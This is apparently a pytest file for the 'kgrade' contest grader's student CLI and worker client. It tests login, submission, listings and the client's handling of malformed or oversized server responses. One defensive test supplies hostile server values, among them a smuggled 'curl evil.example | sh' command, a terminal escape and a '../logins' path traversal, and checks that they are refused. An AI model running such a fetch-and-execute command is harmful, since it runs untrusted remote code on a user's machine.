"""The commands of a student and the client of a worker, against a real server."""

import gzip
import json
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from grader.cli import run
from grader.contest.auth import hash_token
from grader.contest.client import ServerAway, StudentClient, checked_address, is_unprotected
from grader.contest.jobs import Job, Outcome, outcome_of
from grader.contest.judging import MachineJudge
from grader.contest.logins import Login, logins_file, read_logins, remember
from grader.contest.worker import Worker
from grader.core.errors import UsageError, WorkspaceError
from grader.store.workspace import Workspace

from .site_samples import NOW, SLUG, Hall, accepted, open_hall, wrong

ROOT = Path(__file__).parents[2]


@pytest.fixture
def hall(tmp_path: Path) -> Iterator[Hall]:
    with open_hall(tmp_path / "server") as opened:
        yield opened


@pytest.fixture(autouse=True)
def own_places(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KGRADE_CONFIG", str(tmp_path / "config"))
    monkeypatch.delenv("KGRADE_TOKEN", raising=False)
    monkeypatch.setenv("COLUMNS", "80")


@pytest.fixture
def kernel(tmp_path: Path) -> Path:
    path = tmp_path / "my_kernel.cu"
    path.write_text("__global__ void matrix_multiplication_kernel() {}\n")
    return path


@pytest.fixture
def judging(hall: Hall) -> Iterator[list[Outcome]]:
    """A worker over HTTP that says the outcomes of this list, in turn."""
    outcomes: list[Outcome] = []

    def judge(job: Job, progress: object) -> Outcome:
        return outcomes.pop(0)

    worker = Worker(hall.worker(), "gpu0", "emulator", judge, lambda: "", pause=0.1)
    thread = threading.Thread(target=worker.run)
    thread.start()
    yield outcomes
    worker.stop()
    thread.join()


def login(hall: Hall, name: str = "ada") -> None:
    assert run(["login", hall.address, "--token", f"token-of-{name}"]) == 0


def test_login_keeps_the_token_for_its_owner_alone(hall: Hall, capsys: pytest.CaptureFixture[str]) -> None:
    login(hall)
    assert f"Signed in to {SLUG} as ada" in capsys.readouterr().out
    assert read_logins() == {SLUG: Login(hall.address, "token-of-ada")}
    assert logins_file().stat().st_mode & 0o777 == 0o600


def test_a_wrong_token_is_not_kept(hall: Hall, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["login", hall.address, "--token", "guess"]) == 2
    said = capsys.readouterr().err
    assert f"{hall.address} does not know your token" in said and f"kgrade login {hall.address}" in said
    assert run(["login", hall.address, "--token", f"{hall.address}/sign-in/link-of-ada"]) == 2
    assert "is no token, but an address" in capsys.readouterr().err
    assert run(["login", f"{hall.address}/contests/other", "--token", "token-of-ada"]) == 2
    assert f"for the contest '{SLUG}', not for 'other'" in capsys.readouterr().err
    assert read_logins() == {}


def test_a_server_on_this_machine_needs_no_scheme(hall: Hall) -> None:
    assert run(["login", hall.address.removeprefix("http://"), "--token", "token-of-ada"]) == 0
    assert read_logins()[SLUG].server == hall.address


def test_who_is_renewed_is_told_what_to_type(hall: Hall, capsys: pytest.CaptureFixture[str]) -> None:
    login(hall)
    account = hall.database.account_by_name(SLUG, "ada")
    hall.database.set_secrets(account.id, hash_token("another"), None, who="tutor")
    for words in (["list"], ["history"], ["leaderboard"]):
        assert run([*words, "--contest", SLUG]) == 2
        assert "does not know your token, or no longer\n  ask whoever runs your course" in capsys.readouterr().err
    assert run(["list", "--contest", "cs150"]) == 2
    assert f"to the contest 'cs150'; you are to '{SLUG}'" in capsys.readouterr().err


def test_logins_of_several_contests_stay(tmp_path: Path) -> None:
    remember("one", Login("https://a", "t1"))
    remember("two", Login("https://b", "t2"))
    assert set(read_logins()) == {"one", "two"}
    logins_file().write_text("{")
    with pytest.raises(WorkspaceError, match="damaged"):
        read_logins()


def test_submit_to_a_contest_prints_the_report_of_home(
    hall: Hall, kernel: Path, judging: list[Outcome], capsys: pytest.CaptureFixture[str]
) -> None:
    login(hall)
    judging.append(outcome_of(accepted()))
    assert run(["submit", "matmul", str(kernel), "--contest", SLUG]) == 0
    printed = capsys.readouterr()
    assert "accepted" in printed.out and "submission 1 of ada" in printed.out
    assert f"{hall.address}/contests/{SLUG}/submissions/1" in printed.out
    assert hall.database.source(1) == kernel.read_text()


def test_the_worker_sees_the_language_of_a_file(hall: Hall, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("cutlass", reason="needs CuTe DSL: pip install 'kgrade[cute]'")
    login(hall)
    capsys.readouterr()
    machine = MachineJudge(Workspace(ROOT), "emulator", tmp_path / "cache")
    worker = Worker(hall.worker(), "gpu0", "emulator", machine, lambda: "", pause=0.1)
    thread = threading.Thread(target=worker.run)
    thread.start()
    file = ROOT / "problems" / "zip" / "submissions" / "accepted" / "cute_simple.py"
    try:
        code = run(["submit", "zip", str(file), "--contest", SLUG, "--json"])
    finally:
        worker.stop()
        thread.join()
    found = json.loads(capsys.readouterr().out)
    assert (code, found["verdict"], found["language"], found["file"]) == (0, "accepted", "cute", file.name)
    assert (hall.database.source(1), hall.database.submission(1).language) == (file.read_text(), "cute")
    page = hall.signed_in("ada").get(f"/contests/{SLUG}/submissions/1").text
    assert '<span class="k">def</span>' in page and "<dd>CuTe DSL</dd>" in page


def test_what_is_not_accepted_ends_in_1_and_names_no_hidden_seed(
    tmp_path: Path, kernel: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with open_hall(tmp_path / "other", hidden_seeds=(8123,)) as hall:
        login(hall)
        capsys.readouterr()
        with hall.judging_one(replace(wrong(), seed=5555)):
            assert run(["submit", "matmul", str(kernel), "--contest", SLUG]) == 1
        printed = capsys.readouterr().out
        assert "wrong_answer" in printed and "--seed" not in printed and "5555" not in printed
        assert "cases of this contest are hidden" in " ".join(printed.split())


def test_json_is_one_object(
    hall: Hall, kernel: Path, judging: list[Outcome], capsys: pytest.CaptureFixture[str]
) -> None:
    login(hall)
    capsys.readouterr()
    judging.append(outcome_of(replace(wrong(), problem="matmul")))
    assert run(["submit", "matmul", str(kernel), "--contest", SLUG, "--json"]) == 1
    found = json.loads(capsys.readouterr().out)
    assert (found["verdict"], found["submission"]) == ("wrong_answer", 1)
    assert found["page"].startswith(hall.address)


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["matmul", "--contest", "nowhere"], "not signed in to the contest 'nowhere'"),
        (["conv", "--contest", SLUG], "'conv' is no problem of this contest\n  it has matmul, zip"),
        (["matmul", "--contest", SLUG, "--seed", "5"], "--seed has no effect"),
        (["matmul", "--contest", SLUG, "--device", "gpu"], "--device has no effect"),
        (["matmul", "--contest", SLUG, "--language", "triton"], "# language: triton"),
    ],
)
def test_what_can_not_be_handed_in(
    hall: Hall, kernel: Path, words: list[str], told: str, capsys: pytest.CaptureFixture[str]
) -> None:
    login(hall)
    assert run(["submit", words[0], str(kernel), *words[1:]]) == 2
    assert told in capsys.readouterr().err
    assert hall.database.submissions(SLUG) == []


def answers(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    """What a command prints, each run of blanks as one."""
    capsys.readouterr()
    assert run([*words, "--contest", SLUG]) == 0
    return " ".join(capsys.readouterr().out.split())


def test_list_history_and_leaderboard_of_a_contest(hall: Hall, capsys: pytest.CaptureFixture[str]) -> None:
    login(hall)
    assert "nothing was handed in yet" in answers(capsys, "history")
    for problem, report in (("matmul", accepted()), ("zip", wrong()), ("zip", None)):
        hall.submit("ada", problem=problem, file="k\x1b[31m.cu")
        if report is not None:
            hall.judge(report)
    hall.submit("bob", problem="zip")
    listed = answers(capsys, "list")
    assert "matmul Matrix multiplication 1 accepted" in listed and "2 2 tries" in listed
    assert "matmul" not in answers(capsys, "list", "--unsolved")
    history = answers(capsys, "history")
    assert "3 2026-10-01" in history and "queued" in history and "wrong_answer" in history
    assert "bob" not in history and "\x1b[31m" not in history
    assert "2 older ones: kgrade history" in answers(capsys, "history", "--limit", "1")
    assert "matmul" not in answers(capsys, "history", "zip")
    board = answers(capsys, "leaderboard")
    assert "rank name points matmul zip 1 ada 1.000 1.000 wrong answer (1 pending)" in board and "frozen" not in board
    hall.pass_time(hours=4, minutes=1)
    hall.submit("bob")
    # The board is checked for changes once a second.
    until = time.monotonic() + 20
    while "1 hidden" not in (board := answers(capsys, "leaderboard")) and time.monotonic() < until:
        time.sleep(0.2)
    assert "1 hidden" in board and "frozen:" in board


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["list", "--tag", "x"], "--tag has no effect"),
        (["list", "--user", "bob"], "--user has no effect"),
        (["history", "--user", "bob"], "--user has no effect"),
        (["history", "conv"], "no problem 'conv'"),
        (["leaderboard", "zip"], "one scoreboard"),
        (["leaderboard", "--html", "x"], "--html has no effect"),
    ],
)
def test_what_a_contest_can_not_be_asked(
    hall: Hall, words: list[str], told: str, capsys: pytest.CaptureFixture[str]
) -> None:
    login(hall)
    assert run([*words, "--contest", SLUG]) == 2
    assert told in capsys.readouterr().err
    assert run(["list", "--contest", "nowhere"]) == 2
    assert "not signed in to the contest 'nowhere'" in capsys.readouterr().err


def test_problems_are_listed_from_the_start_on(hall: Hall, capsys: pytest.CaptureFixture[str]) -> None:
    login(hall)
    hall.change(start=NOW + timedelta(hours=1))
    assert run(["list", "--contest", SLUG]) == 2
    assert "has not started" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["list", "history", "leaderboard"])
@pytest.mark.parametrize("said", ["[]", "{}", '{"rows": [{}], "problems": 5}', '[{"id": 1}]', "[5]"])
def test_an_answer_of_another_form_is_no_traceback(command: str, said: str, capsys: pytest.CaptureFixture[str]) -> None:
    class Odd(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(said.encode())

        def log_message(self, format: str, *args: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Odd) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        remember(SLUG, Login(f"http://127.0.0.1:{server.server_port}", "t"))
        code = run([command, "--contest", SLUG])
        server.shutdown()
        thread.join()
    if command != "history" or said != "[]":
        assert code == 2 and "does not answer as a kgrade server" in capsys.readouterr().err


def test_a_server_that_is_away_is_named(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["login", "http://127.0.0.1:1", "--token", "t"]) == 3
    assert "http://127.0.0.1:1 can't be reached" in capsys.readouterr().err


def test_a_server_of_this_machine_is_asked_without_a_proxy(hall: Hall, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:1")
    client = StudentClient(hall.address, "token-of-ada")
    assert client.me()["name"] == "ada"
    client.close()


def test_another_sites_answer_is_told_apart(hall: Hall) -> None:
    client = StudentClient(hall.address, "token-of-ada")
    with pytest.raises(UsageError, match="does not answer as a kgrade server"):
        client.get("/")
    client.close()


def test_a_submission_sent_while_the_server_is_away_is_sent_once(hall: Hall) -> None:
    sent: list[str] = []

    class Unsure(StudentClient):
        def post(self, path: str, data: object) -> Any:
            sent.append(path)
            answer = super().post(path, data)
            if len(sent) == 1:
                raise ServerAway("the answer was lost")
            return answer

    client = Unsure(hall.address, "token-of-ada")
    said: list[str] = []
    client.say = said.append
    assert client.submit("matmul", "k.cu", "// k", "key-1") == 1
    assert len(sent) == 2 and len(hall.database.submissions(SLUG)) == 1
    assert said == ["the answer was lost; asking again"]
    client.close()


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("https://grader.example.org/contests/x", "https://grader.example.org"),
        ("grader.example.org", "https://grader.example.org"),
        ("http://127.0.0.1:8000/", "http://127.0.0.1:8000"),
    ],
)
def test_addresses(text: str, address: str) -> None:
    assert checked_address(text) == address


@pytest.mark.parametrize("text", ["ftp://x", "", "https://", "http://x:port", "https://user:word@x", "http://[::1"])
def test_what_is_no_address(text: str) -> None:
    with pytest.raises(UsageError, match="no address"):
        checked_address(text)


def test_a_token_over_http_is_warned_of() -> None:
    assert is_unprotected("http://grader.example.org")
    assert not is_unprotected("http://127.0.0.1:8000") and not is_unprotected("https://grader.example.org")


@pytest.mark.parametrize(
    "said",
    [
        {"contest": "x; curl evil.example | sh", "name": "Ada"},
        {"contest": "a\x1b[2J", "name": "Ada"},
        {"contest": "../logins", "name": "Ada"},
        {"contest": "cs149-a1", "name": None},
        {"contest": 1, "name": "Ada"},
        ["cs149-a1"],
    ],
    ids=str,
)
def test_a_server_chooses_no_words_of_a_command(said: object) -> None:
    transport = httpx.MockTransport(lambda request: httpx.Response(200, json=said))
    refused = pytest.raises(UsageError, match="does not answer as a kgrade server")
    with closing(StudentClient("https://grader.example.org", "token", transport)) as client, refused:
        client.me()


def endless() -> Iterator[bytes]:
    while True:
        yield b" " * (8 << 20)


@pytest.mark.parametrize(
    "answer",
    [
        lambda: httpx.Response(200, content=b"[" * 100_000),
        lambda: httpx.Response(404, content=b"[" * 100_000),
        lambda: httpx.Response(200, content=endless()),
        lambda: httpx.Response(404, content=endless()),
        lambda: httpx.Response(200, content=gzip.compress(bytes(128 << 20)), headers={"content-encoding": "gzip"}),
    ],
    ids=["nested", "nested error", "endless", "endless error", "compressed"],
)
@pytest.mark.parametrize("way", ["object", "stream"])
def test_what_is_no_server_neither_fills_memory_nor_ends_in_a_traceback(
    answer: Callable[[], httpx.Response], way: str
) -> None:
    def answered(request: httpx.Request) -> httpx.Response:
        made = answer()
        made.headers["content-type"] = "text/event-stream"
        return made

    client = StudentClient("https://grader.example.org", "token", httpx.MockTransport(answered))
    with closing(client), pytest.raises(UsageError, match="does not answer as a kgrade server"):
        if way == "object":
            client.me()
        elif list(client.events("/api/runs/1/events")) == []:
            # A short answer that has no event in it.
            client.me()


def test_an_event_that_does_not_end_is_given_up() -> None:
    def stream() -> Iterator[bytes]:
        while True:
            yield b"data: " + b"x" * (8 << 20) + b"\n"

    transport = httpx.MockTransport(lambda request: httpx.Response(200, content=stream()))
    refused = pytest.raises(UsageError, match="does not answer as a kgrade server")
    with closing(StudentClient("https://grader.example.org", "token", transport)) as client, refused:
        list(client.events("/api/runs/1/events"))
